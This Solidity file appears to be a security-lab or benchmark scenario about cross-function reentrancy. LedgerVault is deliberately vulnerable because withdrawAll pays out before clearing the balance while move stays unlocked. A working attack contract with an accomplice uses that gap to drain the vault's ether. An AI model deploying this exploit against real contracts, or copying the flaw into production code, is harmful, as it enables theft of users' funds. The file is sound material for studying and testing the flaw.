// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Each function is right by itself; one of them is locked and the other is not.
contract LedgerVault {
    mapping(address => uint256) public balanceOf;
    bool private locked;

    event Moved(address indexed from, address indexed to, uint256 amount);

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Moved(address(0), msg.sender, msg.value);
    }

    function move(address to, uint256 amount) external {
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Moved(msg.sender, to, amount);
    }

    function withdrawAll() external {
        require(!locked, "locked");
        locked = true;
        uint256 amount = balanceOf[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "pay");
        balanceOf[msg.sender] = 0;
        locked = false;
        emit Moved(msg.sender, address(0), amount);
    }
}

contract CrossFunctionReentrancyScene is Scene {
    LedgerVault public vault = new LedgerVault();

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        _protect(address(vault));
        _asset(address(0), "ETH", 18, 2000e6);
        stake = 300 ether;
        vault.deposit{value: 1500 ether}();
    }

    function enrol(address[] calldata) external override {}

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        uint256 kind = (dice >> 200) % 4;
        if (held == 0 || kind < 2) {
            return (address(vault), _amount(dice, 0.1 ether, 20 ether), abi.encodeCall(LedgerVault.deposit, ()));
        }
        if (kind == 2) {
            return (address(vault), 0, abi.encodeCall(LedgerVault.move, (address(uint160(dice)), held / 10)));
        }
        return (address(vault), 0, abi.encodeCall(LedgerVault.withdrawAll, ()));
    }
}

/// The second pair of hands.
contract Accomplice {
    LedgerVault private immutable vault;
    address private immutable boss;

    constructor(LedgerVault vault_, address boss_) {
        (vault, boss) = (vault_, boss_);
    }

    receive() external payable {}

    function give(uint256 amount) external {
        vault.move(boss, amount);
    }

    function hand() external {
        (bool ok,) = boss.call{value: address(this).balance}("");
        require(ok);
    }
}

contract CrossFunctionReentrancyAttack is Attack {
    LedgerVault private immutable vault;

    constructor(CrossFunctionReentrancyScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256, uint256) internal override {
        Accomplice friend = new Accomplice(vault, address(this));
        assembly {
            tstore(0, friend)
        }
        vault.deposit{value: msg.value}();
        // Each round withdraws and keeps the claim with the friend, who gives it back.
        for (uint256 i; i < 4 && address(vault).balance >= vault.balanceOf(address(this)); i++) {
            vault.withdrawAll();
            friend.give(vault.balanceOf(address(friend)));
        }
    }

    function _onEther() internal override {
        if (msg.sender != address(vault)) return;
        address friend;
        assembly {
            friend := tload(0)
        }
        vault.move(friend, vault.balanceOf(address(this)));
    }
}
